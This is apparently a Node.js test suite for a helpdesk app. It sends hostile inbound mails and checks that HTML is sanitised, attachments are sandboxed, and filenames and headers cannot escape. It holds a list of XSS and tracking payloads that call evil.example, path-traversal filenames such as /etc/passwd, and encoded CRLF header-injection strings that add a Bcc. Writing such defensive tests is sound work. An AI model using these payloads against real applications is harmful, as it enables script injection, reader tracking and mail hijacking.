// Attacks by mail that comes in, one test each: HTML and SVG that would run or tell that they were
// read, headers that grow, names of files that climb.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';

import { check, enter, launch, openPage } from '../lib/browser.mjs';
import { Client, words } from '../lib/client.mjs';
import { startDesk } from '../lib/desk.mjs';

const OURS = 'support@desk.example';
let agent;
let browser;
let desk;

before(async () => {
  [desk, browser] = await Promise.all([startDesk(), launch()]);
  agent = new Client(desk);
  await agent.login(await desk.addPerson());
});

after(async () => {
  await browser?.close();
  await desk?.stop();
});

/** Takes in a mail, and answers the number of its request. `word` is in its subject and in no other. */
async function comesIn(word, { headers = [], parts }) {
  const mail = [
    'From: Mallory <mallory@example.com>', `To: <${OURS}>`, `Message-ID: <${crypto.randomUUID()}@example.com>`, 'Date: Mon, 23 Nov 2026 08:00:00 +0000', 'MIME-Version: 1.0',
    ...headers, ...(headers.some((line) => /^Subject:/.test(line)) ? [] : [`Subject: ${word}`]),
    'Content-Type: multipart/mixed; boundary="outer"', '',
    ...parts.flatMap((part) => ['--outer', ...part]), '--outer--', '',
  ].join('\r\n');
  assert.equal(await desk.ingest(mail), 0);
  for (const list of ['/agent?view=all', '/agent/held']) {
    for (const [, number] of (await agent.get(list)).text.matchAll(/\/agent\/requests\/(T-[0-9A-Z]{4}-[0-9A-Z]{4})"/g)) {
      const page = await agent.get(`/agent/requests/${number}`);
      if (page.text.includes(word)) return { number, page: page.text };
    }
  }
  throw new Error(`No request has the word ${word}.`);
}

const text = (content) => ['Content-Type: text/plain; charset=utf-8', '', content];
const html = (content) => ['Content-Type: text/html; charset=utf-8', '', content];

const HOSTILE = {
  'a script': '<script>alert(1)</script><script src="https://evil.example/x.js"></script>',
  'handlers': '<img src=x onerror=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)><input autofocus onfocus=alert(1)><marquee onstart=alert(1)>',
  'addresses that run': '<a href="javascript:alert(1)">a</a><a href=" java\tscript:alert(1)">b</a><a href="data:text/html,<script>alert(1)</script>">c</a><a href="vbscript:x">d</a>',
  'SVG': '<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1) attributeName=x><a xlink:href="javascript:alert(1)"><text>x</text></a><use href="data:image/svg+xml,<svg onload=alert(1)>"></svg>',
  'MathML and other name spaces': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>',
  'what changes when it is read again': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
  'comments and doctypes': '<!--><script>alert(1)</script--><!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="javascript:alert(1)"?>',
  'frames and objects': '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="data:text/html,x"></object><embed src="https://evil.example"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  'styles': '<style>@import url(https://evil.example/x.css); * { background: url(https://evil.example/y) }</style><p style="background:url(https://evil.example/z);position:fixed;inset:0">x</p><link rel=stylesheet href="https://evil.example/w.css">',
  'what tells that it was read': '<img src="https://evil.example/pixel.gif"><img srcset="https://evil.example/p 1x"><video poster="https://evil.example/v" src="https://evil.example/v"></video><audio src="//evil.example/a"></audio><input type=image src="https://evil.example/i"><table background="https://evil.example/t"><tr><td>x</table><picture><source srcset="https://evil.example/s"></picture><a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  'forms': '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Log in</button></form>',
  'names that hide ours': '<p id="main" name="body" class="comment-body site-header">x</p><img name="cookie"><form id="documentElement"></form>',
};

describe('HTML of a mail', () => {
  for (const [index, [what, content]] of Object.entries(HOSTILE).entries()) {
    test(`runs nothing, loads nothing and tells nobody: ${what}`, async () => {
      const word = `Hostile${index}`;
      const { page } = await comesIn(word, { parts: [html(`<p>Before</p>${content}<p>After <b>bold</b></p>`)] });
      const main = page.slice(page.indexOf('<main'), page.indexOf('</main>')).replace(/<script\b[^>]*nonce="[^"]*"[^>]*>[^]*?<\/script>/g, '');
      assert.doesNotMatch(main.replace(/"[^"]*"/g, '""'), /<(script|style|iframe|object|embed|base|meta|link)\b|\son\w+=/i);
      // What the app goes on with is data that ends where it should.
      const data = /<script id="first" type="application\/json"[^>]*>([^]*?)<\/script>/.exec(page)[1];
      assert.doesNotMatch(data, /</);
      assert.ok(JSON.stringify(JSON.parse(data)).includes(word));
      const formatted = /href="([^"]*\/formatted[^"]*)"/.exec(page)?.[1];
      assert.ok(formatted, 'the mail can be seen as it was formatted');

      const answer = await agent.get(formatted);
      assert.equal(answer.status, 200);
      assert.match(answer.headers.get('content-security-policy'), /^sandbox (?!.*allow-(scripts|forms|top-navigation)).*default-src 'none'.*form-action 'none'/);
      const body = answer.text.slice(answer.text.indexOf('<body'));
      const tags = body.match(/<[a-z][^>]*>/gi).map((tag) => tag.replace(/&quot;/g, ''));
      for (const tag of tags) {
        assert.doesNotMatch(tag, /^<(script|style|iframe|object|embed|base|meta|link|svg|math|form|input|button|video|audio|source|noscript)\b/i);
        assert.doesNotMatch(tag.replace(/"[^"]*"/g, '""'), /\son\w+|\s(ping|srcset|background|poster|formaction|action|srcdoc)=/i);
        assert.doesNotMatch(tag, /\ssrc="(?!\/)|href="\s*(javascript|data|vbscript)/i);
        assert.doesNotMatch(tag, /url\(/i);
      }
      assert.match(words(`<main>${body}</main>`), /Before.*After bold/, 'positive control: the words are there');

      // In a real browser: no dialog, no request to another host, nothing that the policy had to stop.
      // A document of its own names no icon, so browsers look for the usual one.
      const shown = await openPage(browser, desk, { allow: [/favicon\.ico/] });
      try {
        const dialogs = [];
        shown.context().on('page', (opened) => dialogs.push(opened.url()));
        shown.on('dialog', (dialog) => {
          dialogs.push(dialog.message());
          dialog.dismiss();
        });
        await enter(shown, desk, agent);
        await shown.goto(formatted);
        await shown.waitForLoadState('networkidle');
        assert.equal(new URL(shown.url()).origin, new URL(desk.url).origin);
        assert.deepEqual(dialogs, []);
        check(shown);
      } finally {
        await shown.context().close();
      }
    });
  }
});

test('SVG and HTML that come as files are downloads that no browser runs', async () => {
  const file = (name, type, content) => [`Content-Type: ${type}; name="${name}"`, `Content-Disposition: inline; filename="${name}"`, 'Content-Transfer-Encoding: base64', '', Buffer.from(content).toString('base64')];
  const { page } = await comesIn('Picturesque', {
    parts: [text('See what I send.'), file('drawing.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), file('page.html', 'text/html', '<script>alert(1)</script>'), file('picture.png', 'image/png', '<html><script>alert(1)</script>')],
  });
  const links = [...new Set([...page.matchAll(/href="([^"]*\/files\/[0-9a-f-]+)"/g)].map(([, href]) => href))];
  assert.ok(links.length >= 2, page.slice(page.indexOf('<main'), page.indexOf('<main') + 3000));
  for (const href of links) {
    const { headers } = await agent.get(href);
    assert.match(headers.get('content-disposition'), /^attachment; /);
    assert.equal(headers.get('x-content-type-options'), 'nosniff');
    assert.equal(headers.get('content-security-policy'), "sandbox; default-src 'none'");
    assert.doesNotMatch(headers.get('content-type'), /html|svg|xml|javascript/);
  }
});

test('names of files in a mail do not climb', async () => {
  const names = ['../../../tmp/evil.txt', '..\\..\\evil.txt', '/etc/passwd', '=?utf-8?q?..=2F..=2Fevil?=', "x.txt\"; filename=\"../evil"];
  const { page } = await comesIn('Climbing', { parts: [text('Files.'), ...names.map((name) => ['Content-Type: application/octet-stream', `Content-Disposition: attachment; filename="${name}"`, '', 'contents']), ["Content-Type: application/octet-stream", "Content-Disposition: attachment; filename*=utf-8''..%2F..%2Fevil%0d%0aX-Evil:1", '', 'contents']] });
  const links = [...new Set([...page.matchAll(/href="([^"]*\/files\/[0-9a-f-]+)"/g)].map(([, href]) => href))];
  assert.equal(links.length, names.length + 1);
  for (const href of links) {
    const { status, headers } = await agent.get(href);
    assert.equal(status, 200);
    const [, ascii, exact] = /^attachment; filename="([^"]*)"; filename\*=UTF-8''(.*)$/.exec(headers.get('content-disposition'));
    for (const name of [ascii, decodeURIComponent(exact)]) assert.doesNotMatch(name, /[/\\\r\n]|^\.+$/, name);
    assert.equal(headers.get('x-evil'), null);
  }
});

test('headers of a mail do not grow in those that answer it', async () => {
  const evil = Buffer.from('Growing\r\nBcc: victim@example.org\r\nX-Evil: 1\r\n\r\nbody').toString('base64');
  const { number } = await comesIn('Growing', {
    headers: [`Subject: =?utf-8?b?${evil}?=`, `Reply-To: =?utf-8?b?${evil}?= <mallory@example.com>`, 'References: <a@b>\r\n <c@d\r\n X-Evil: 1>', `In-Reply-To: =?utf-8?b?${evil}?=`],
    parts: [text('A matter.')],
  });
  const answered = await agent.post(`/agent/requests/${number}`, { body: 'We look into it.', visibility: 'public', once: 'x', status_afterwards: 'leave' });
  assert.equal(answered.status, 303);
  const mail = await desk.mail({ to: 'mallory@example.com', subject: new RegExp(`${number}`) });
  const head = mail.raw.slice(0, mail.raw.indexOf('\r\n\r\n')).replace(/\r\n[ \t]+/g, ' ');
  assert.doesNotMatch(head, /^(bcc|x-evil|cc):/im);
  assert.doesNotMatch(mail.raw, /\r(?!\n)|(?<!\r)\n/);
  assert.match(head, /^To: .*mallory@example\.com/m);
  assert.doesNotMatch(head.replace(/=\?[^?]*\?[bq]\?[^?]*\?=/gi, '').replace(/^Subject:.*$/m, ''), /victim/);
});
